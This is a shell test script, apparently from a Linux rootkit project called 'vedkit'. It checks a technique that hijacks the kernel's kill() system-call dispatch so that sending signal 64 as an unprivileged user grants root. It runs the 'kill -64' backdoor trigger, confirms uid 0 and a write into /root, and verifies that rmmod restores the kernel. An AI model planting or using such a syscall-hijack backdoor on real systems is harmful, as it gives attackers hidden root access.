# SPDX-License-Identifier: GPL-2.0
# vedkit technique "dispatch": the jump to __x64_sys_kill inside the
# x64_sys_call() switch is retargeted to vedkit's handler, so that kill(any,
# 64) makes an unprivileged caller root while every other kill() still works.
. /tests/lib/guest.sh

ksym() { awk -v s="$1" '$3 == s { print $1; exit }' /proc/kallsyms; }
# kill -64 as uid 1000, then the shell's own effective uid as the kernel
# shows it, read with shell builtins only: busybox applets run by the shell
# would re-apply the uid busybox cached at its start.
magic_uid() {
	as_user sh -c 'kill -64 99999
		while read -r k r e rest; do [ "$k" = Uid: ] && echo "$e"; done </proc/$$/status' \
		2>/dev/null
}

# The same shell then writes into root's home (mode 755, owned by root).
root_write() { as_user sh -c 'kill -64 99999; echo pwned >/root/vedkit-dispatch' 2>/dev/null; }

uid=$(magic_uid)
expect rootkit-dispatch-before "before insmod, kill -64 as uid 1000 leaves uid $uid" [ "$uid" = 1000 ]
root_write
expect rootkit-dispatch-before-write "before insmod, it cannot write into /root" [ ! -e /root/vedkit-dispatch ]
expect rootkit-dispatch-load "vedkit techniques=dispatch loads" \
	load_module vedkit techniques=dispatch
target=$(cat /sys/module/vedkit/parameters/dispatch_kill)
hook=$(ksym vk_dispatch_kill)
expect rootkit-dispatch-patched \
	"x64_sys_call's jump for kill now lands on vk_dispatch_kill ($target, was $(ksym __x64_sys_kill))" \
	[ -n "$hook" -a "$target" = "$hook" ]
uid=$(magic_uid)
expect rootkit-dispatch-after "after insmod, kill -64 as uid 1000 gives uid $uid" [ "$uid" = 0 ]
root_write
expect rootkit-dispatch-after-write "after insmod, it writes /root/vedkit-dispatch as root" \
	root_owned /root/vedkit-dispatch
# Every other signal still goes to the real kill().
runas 1000 1000 sleep 60 &
victim=$!
as_user kill -TERM "$victim"
wait "$victim"
rc=$?
expect rootkit-dispatch-passthrough "an ordinary kill -TERM still kills (status $rc)" [ "$rc" = 143 ]
expect rootkit-dispatch-unload "rmmod vedkit restores the original jump" rmmod vedkit
uid=$(magic_uid)
expect rootkit-dispatch-restored "after rmmod, kill -64 as uid 1000 leaves uid $uid" [ "$uid" = 1000 ]
